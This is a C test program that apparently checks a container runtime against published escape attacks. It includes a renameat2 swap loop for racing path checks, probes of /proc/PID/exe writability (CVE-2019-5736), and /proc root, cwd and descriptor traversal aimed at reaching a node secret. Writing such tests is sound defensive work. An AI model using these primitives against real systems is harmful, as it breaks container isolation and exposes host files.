/* What runs against a runtime in the tests of published attacks, on the node or inside a container. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Exchanges two names for ever: a check of one of them never holds until its use. */
static int swap(const char *first, const char *second) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, 2 /* RENAME_EXCHANGE */) < 0) {
      perror("renameat2");
      return 1;
    }
}

static void escaped(int pid, const char *what) {
  char line[512];
  int length = snprintf(line, sizeof line, "ESCAPED: process %d: %s\n", pid, what);
  if (write(1, line, (size_t)length) != length) exit(1);
}

/* Whether a path of the form /proc/PID/NAME leads to the secret of the node. */
static void look(int pid, const char *name, const char *secret) {
  char path[1024], text[16] = "";
  snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, name, secret);
  int file = open(path, O_RDONLY);
  if (file < 0) return;
  if (read(file, text, sizeof text - 1) > 0 && strncmp(text, "secret", 6) == 0) escaped(pid, path);
  close(file);
}

/* Looks at one process of the container that this program did not start. */
static void probe(int pid, const char *secret) {
  char path[1024], entry[64];
  /* Whatever is there may only be read: what could be written to is a program of the node (CVE-2019-5736). */
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  struct stat its, own;
  int program = open(path, O_RDWR);
  if (program >= 0) {
    if (fstat(program, &its) == 0 && stat("/bin/busybox", &own) == 0 && (its.st_ino != own.st_ino || its.st_dev != own.st_dev))
      escaped(pid, path);
    close(program);
  }
  look(pid, "root", secret);
  look(pid, "cwd", secret);
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *files = opendir(path);
  if (!files) return;
  for (struct dirent *file; (file = readdir(files));) {
    snprintf(entry, sizeof entry, "fd/%s", file->d_name);
    look(pid, entry, secret);
    /* From a directory or file of the node its whole tree can be walked. */
    snprintf(path, sizeof path, "/proc/%d/%s", pid, entry);
    int opened = open(path, O_PATH | O_DIRECTORY);
    if (opened < 0) continue;
    char climb[2048] = "";
    for (int up = 0; up < 16; up++) {
      snprintf(climb, sizeof climb, "%.*s%s", up * 3, "../../../../../../../../../../../../../../../../", secret + 1);
      int found = openat(opened, climb, O_RDONLY);
      if (found >= 0) {
        escaped(pid, path);
        close(found);
        break;
      }
    }
    close(opened);
  }
  closedir(files);
}

/* Watches for new processes for some seconds, and looks at each as long as it is there. */
static int watch(const char *secret, int seconds) {
  time_t end = time(NULL) + seconds;
  int self = getpid(), seen = 0, last = 0;
  if (write(1, "watching\n", 9) != 9) return 1;
  while (time(NULL) < end) {
    DIR *processes = opendir("/proc");
    if (!processes) return 1;
    for (struct dirent *process; (process = readdir(processes));) {
      int pid = atoi(process->d_name);
      if (pid <= 1 || pid == self) continue;
      if (pid != last) seen++;
      last = pid;
      for (int again = 0; again < 20; again++) probe(pid, secret);
    }
    closedir(processes);
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
  }
  printf("seen %d\n", seen);
  return 0;
}

/* What this process was given: open descriptors that lead to directories, and capabilities that exec would keep. */
static int inherited(void) {
  DIR *files = opendir("/proc/self/fd");
  if (!files) return 1;
  for (struct dirent *file; (file = readdir(files));) {
    int number = atoi(file->d_name);
    struct stat status;
    if (file->d_name[0] == '.' || number == dirfd(files)) continue;
    if (number > 2 || (fstat(number, &status) == 0 && S_ISDIR(status.st_mode))) escaped(number, "an open descriptor");
  }
  closedir(files);
  return 0;
}

int main(int count, char **arguments) {
  if (count == 4 && !strcmp(arguments[1], "swap")) return swap(arguments[2], arguments[3]);
  if (count == 4 && !strcmp(arguments[1], "watch")) return watch(arguments[2], atoi(arguments[3]));
  if (count == 2 && !strcmp(arguments[1], "inherited")) return inherited();
  fprintf(stderr, "usage: attacker swap A B | watch SECRET SECONDS | inherited\n");
  return 2;
}
